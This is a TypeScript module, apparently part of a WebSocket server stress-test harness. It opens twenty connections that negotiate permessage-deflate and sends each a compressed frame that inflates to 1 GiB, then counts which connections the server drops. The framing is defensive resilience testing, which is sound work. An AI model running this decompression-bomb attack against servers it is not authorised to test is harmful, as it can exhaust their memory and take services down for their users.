import { readFileSync } from 'node:fs';
import { ConnectionEnd } from '../connection-end.js';
import { sleep } from '../flood-writer.js';
import { maskedFrame, openConnection } from '../raw-handshake.js';
import type { Attack } from './attack.js';
import { summarizeEnds } from './summarize-ends.js';

/**
 * 20 connections negotiate permessage-deflate, then each sends one ~1 MiB
 * compressed binary frame (RSV1) that inflates to 1 GiB of zeros. The bomb
 * file is built by the harness (compression-bomb.ts) and passed by path.
 */
export const BOMB_CONNECTIONS = 20;

export const compressionBombs: Attack = async (config, started) => {
  if (config.bombFile === undefined) throw new Error('bombs: no bomb file');
  const frame = maskedFrame(0xc2, readFileSync(config.bombFile));
  const opened = await Promise.all(
    Array.from({ length: BOMB_CONNECTIONS }, () => openConnection(config.port, { extraHeaders: ['Sec-WebSocket-Extensions: permessage-deflate'] })),
  );
  const negotiated = opened.filter(({ responseHead }) => /permessage-deflate/i.test(responseHead)).length;
  const startedAt = performance.now();
  const ends = opened.map(({ socket, rest }) => {
    const end = new ConnectionEnd(socket, startedAt);
    end.reader.push(rest);
    socket.resume();
    return end;
  });
  started();
  for (const { socket } of opened) socket.write(frame);
  const deadline = startedAt + config.seconds * 1000;
  while (performance.now() < deadline && !ends.every((end) => end.dropped)) await sleep(50);
  const dropped = summarizeEnds(ends);
  for (const { socket } of opened) socket.destroy();
  return { dropped, note: `${BOMB_CONNECTIONS} × ${(frame.length / 1024 ** 2).toFixed(2)} MiB frames inflating to 1 GiB each; deflate negotiated on ${negotiated}/${BOMB_CONNECTIONS}` };
};
